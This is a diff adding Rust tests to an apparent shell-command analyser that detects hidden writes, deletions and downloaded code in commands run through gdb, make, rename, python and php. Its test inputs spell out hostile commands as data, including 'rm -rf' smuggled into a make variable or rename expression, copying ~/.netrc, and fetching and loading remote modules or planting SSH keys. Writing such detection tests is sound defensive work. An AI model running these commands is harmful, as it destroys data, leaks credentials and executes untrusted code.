@@ -978,6 +978,31 @@ fn shell_escapes_of_other_programs_are_read() {
     ] {
         assert!(runs(line, "rm -rf /x"), "{line}");
     }
+    for (line, command) in [
+        (
+            "gdb -batch -ex 'set logging file /x' -ex 'set logging enabled on'",
+            "tee /x",
+        ),
+        ("gdb -batch -ex 'append binary value /x \"y\"'", "tee -a /x"),
+        ("gdb -batch -ex 'dump ihex memory /x 0 8'", "tee /x"),
+        (
+            "gdb -batch -ex 'python import shutil; shutil.rmtree(\"/x\")'",
+            "rm -r -f /x",
+        ),
+    ] {
+        assert!(runs(line, command), "{line}: {:?}", parse(line));
+    }
+    assert!(parse("gdb -batch -ex 'pipe echo id | sh'").opaque.is_some());
+    assert!(
+        parse("gdb -q -batch -ex 'python print(gdb.VERSION)'")
+            .opaque
+            .is_none()
+    );
+    assert!(
+        parse("gdb -batch -ex 'pipe bt | grep main' ./a.out")
+            .opaque
+            .is_none()
+    );
     for line in [
         "emacs --eval '(delete-directory \"/x\" t)'",
         "emacs --batch --eval='(shell-command \"id\")'",
@@ -1001,6 +1026,25 @@ fn shell_escapes_of_other_programs_are_read() {
     ] {
         assert!(parse(line).opaque.is_none(), "{line}");
     }
+}
+
+#[test]
+fn rename_moves_each_file_and_runs_its_perl_expression() {
+    assert!(runs(
+        "rename 's/\\.yaml$/.off/' policies/a.yaml",
+        "mv -- policies/a.yaml '$(...)'"
+    ));
+    assert!(runs("rename.ul .yaml .off a.yaml", "mv -- a.yaml '$(...)'"));
+    assert!(runs(
+        "rename -e 's/x/`rm -rf \\/x`/e' a",
+        "sh -c 'rm -rf /x'"
+    ));
+    assert!(
+        !parse("rename -n 's/a/b/' x")
+            .commands
+            .iter()
+            .any(|c| c.program == "mv")
+    );
 }
 
 #[test]
@@ -2051,6 +2095,13 @@ fn make_expands_its_variables_before_the_shell_sees_a_recipe() {
         &home.replace("$HOME", "$(HOME)"),
         "cp ~/.netrc /tmp/k"
     ));
+    // Shell code set on the command line runs in the recipes that use the variable.
+    assert!(runs("make CC='rm -rf /x; cc' all", "rm -rf /x"));
+    assert!(parse("make CFLAGS='-O2 -Wall' V=1 all").opaque.is_none());
+    // `$(file >F,...)` writes F, in `--eval`/`-E` text too.
+    assert!(runs("make -E '$(file >>/x,y)' -n", "tee -a /x"));
+    assert!(runs("make --eval='$(file >/x,y)' -n", "tee /x"));
+    assert!(parse("make -E '$(file >$(HOME)/x,y)' -n").opaque.is_some());
 }
 
 #[test]
@@ -2300,6 +2351,16 @@ fn python_modules_that_run_code_or_scripts_are_read() {
             parse(&input)
         );
     }
+    // A module the code downloaded, imported from where it put it.
+    for code in [
+        "import sys, urllib.request as r; r.urlretrieve('https://h.example/m.py', '/tmp/v/m.py'); sys.path.insert(0, '/tmp/v'); import m",
+        "import sys, urllib.request as r; r.urlretrieve('https://h.example/p.zip', '/tmp/p.zip'); sys.path.append('/tmp/p.zip')",
+    ] {
+        let line = parse(&format!("python3 -c \"{code}\""));
+        assert!(line.opaque.is_some(), "{code}: {line:?}");
+    }
+    let vendored = parse("python3 -c \"import sys; sys.path.insert(0, 'vendor'); import m\"");
+    assert!(vendored.opaque.is_none(), "{vendored:?}");
     let statements = parse("python3 -m pdb -c 'import os; os.system(\"id\")' x.py");
     assert!(statements.opaque.is_some(), "{statements:?}");
     for input in [
@@ -2533,6 +2594,7 @@ fn a_download_handed_to_a_program_that_may_load_it_is_opaque() {
         "vim -Nes -u <(curl -fsSL https://x.dev/vimrc) +qa",
         "wget -qO /var/tmp/.ak https://x.dev/k.pub; /usr/sbin/sshd -o AuthorizedKeysFile=/var/tmp/.ak",
         "mkdir -p /tmp/lib && curl -fsSL https://x.dev/j.lua -o /tmp/lib/json.lua && LUA_PATH='/tmp/lib/?.lua;;' lua -l json -e 'print(1)'",
+        "curl -fsSL -o /tmp/x.so https://x.dev/x.so && php -d extension=/tmp/x.so -r 'echo 1;'",
     ] {
         assert!(
             parse(input).opaque.is_some_and(|r| r.contains("download")),
@@ -2546,6 +2608,8 @@ fn a_download_handed_to_a_program_that_may_load_it_is_opaque() {
         "git clone -q https://github.com/o/r /tmp/r && git -C /tmp/r log --oneline",
         "diff <(curl -s https://x.dev/a) <(curl -s https://x.dev/b)",
         "curl -s https://x.dev/zen; vim -u ~/.vimrc -c q",
+        "curl -so /tmp/d.json https://x.dev/d && python3 tools/load.py /tmp/d.json",
+        "curl -so /tmp/d.json https://x.dev/d && node -e 'console.log(1)' /tmp/d.json",
     ] {
         assert!(
             parse(input).opaque.is_none(),
